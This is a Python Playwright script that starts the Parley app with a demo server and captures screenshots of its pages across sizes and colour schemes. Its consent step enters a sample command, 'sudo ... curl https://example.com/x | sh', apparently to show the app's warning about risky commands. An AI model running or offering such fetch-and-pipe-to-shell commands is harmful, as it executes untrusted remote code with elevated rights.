"""Pictures of every page, wide and narrow, light and dark: `python -m tests.screenshots [FOLDER]`.

Starts Parley with the demo server and writes PNGs into .screenshots/, for people to look at.
"""

import shlex
import sys
from pathlib import Path

from playwright.sync_api import Page, sync_playwright

from tests.browser.parley import ROOT, Parley, launch, running

SIZES = {"wide": (1440, 900), "phone": (390, 844)}
SCHEMES = ("light", "dark")


def prepare(page: Page, parley: Parley) -> str:
    """A session with the demo server and a few calls in it; its address."""
    parley.login(page)
    page.get_by_role("button", name="Start the demo server").click()
    page.wait_for_selector(".lamp[data-s=ready]")
    page.wait_for_selector("#n-tools:not(:empty)")
    base = page.url
    for name, arguments in (
        ("echo", '{"message": "Hello, server"}'),
        ("tool_error", "{}"),
        ("postcard", "{}"),
        ("timetable", "{}"),
        ("add", '{"a": 2, "b": 40}'),
    ):
        if page.goto(f"{base}/tools/{name}?as=json").status != 200:  # type: ignore[union-attr]
            continue
        page.fill("#arguments", arguments)
        page.click("#call-go")
        page.wait_for_selector(".call .st:is([data-s=done], [data-s=failed])")
    return base


def pages(base: str, origin: str, selected: int) -> dict[str, str]:
    """Every page that can be reached by an address, by the name of its picture."""
    return {
        "home": f"{origin}/",
        "overview": base,
        "tools": f"{base}/tools",
        "tool": f"{base}/tools/add",
        "tool-error": f"{base}/tools/tool_error",
        "tool-media": f"{base}/tools/postcard",
        "calls": f"{base}/calls",
        "call": f"{base}/calls/c2",
        "log": f"{base}/log",
        "message": f"{base}/log/{selected}",
        "stderr": f"{base}/stderr",
        "resources": f"{base}/resources",
        "resource": f"{base}/resources/one?uri=desk%3A%2F%2Fguide",
        "templates": f"{base}/resources/templates",
        "template": f"{base}/resources/templates/departures",
        "prompts": f"{base}/prompts",
        "prompt": f"{base}/prompts/plan_weekend",
        "logging": f"{base}/logging",
        "compose": f"{base}/compose?method=tools/call",
        "roots": f"{base}/roots",
        "tasks": f"{base}/tasks",
        "inbox": f"{base}/inbox",
        "subscriptions": f"{base}/subscriptions",
        "stage": f"{base}/stage",
        "connect": f"{base}/connect",
        "about": f"{origin}/about",
        "missing": f"{origin}/s/nothing-here",
    }


def consent(page: Page, origin: str) -> None:
    page.goto(f"{origin}/")
    page.fill("#command_line", "sudo python server.py --root '/tmp/a b' -c 'curl https://example.com/x | sh'")
    page.get_by_role("button", name="Connect", exact=True).click()


def lost(page: Page, origin: str) -> None:
    page.goto(f"{origin}/")
    page.fill("#command_line", shlex.join([sys.executable, "-c", "import sys; sys.exit('No such file: travel.py')"]))
    page.get_by_role("button", name="Connect", exact=True).click()
    if page.get_by_role("button", name="Start it").count():
        page.get_by_role("button", name="Start it").click()
    page.wait_for_selector("#trouble")


def main(arguments: list[str]) -> int:
    folder = Path(arguments[0]) if arguments else ROOT / ".screenshots"
    folder.mkdir(exist_ok=True)
    (folder / ".gitignore").write_text("*\n", encoding="utf-8")
    only = set(arguments[1:])
    with running() as parley, sync_playwright() as playwright:
        browser = launch(playwright)
        context = browser.new_context()
        page = context.new_page()
        base = prepare(page, parley)
        log = context.request.get(f"{base}/log", headers={"accept": "application/json"}).json()
        selected = log["messages"][-1]["seq"]
        for size, (width, height) in SIZES.items():
            for scheme in SCHEMES:
                page.set_viewport_size({"width": width, "height": height})
                page.emulate_media(color_scheme=scheme)  # type: ignore[arg-type]
                for name, address in pages(base, parley.origin, selected).items():
                    if only and name not in only:
                        continue
                    page.goto(address)
                    page.wait_for_timeout(250)
                    page.screenshot(path=folder / f"{name}-{size}-{scheme}.png", full_page=size == "phone")
                for name, steps in {"consent": consent, "lost": lost}.items():
                    if only and name not in only:
                        continue
                    steps(page, parley.origin)
                    page.wait_for_timeout(250)
                    page.screenshot(path=folder / f"{name}-{size}-{scheme}.png", full_page=size == "phone")
                    if name == "lost":
                        page.get_by_role("button", name="Close the session").click()
        stranger = browser.new_page()
        stranger.goto(parley.server)
        stranger.screenshot(path=folder / "signed-out-wide-light.png")
        browser.close()
    print(f"{len(list(folder.glob('*.png')))} pictures in {folder}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
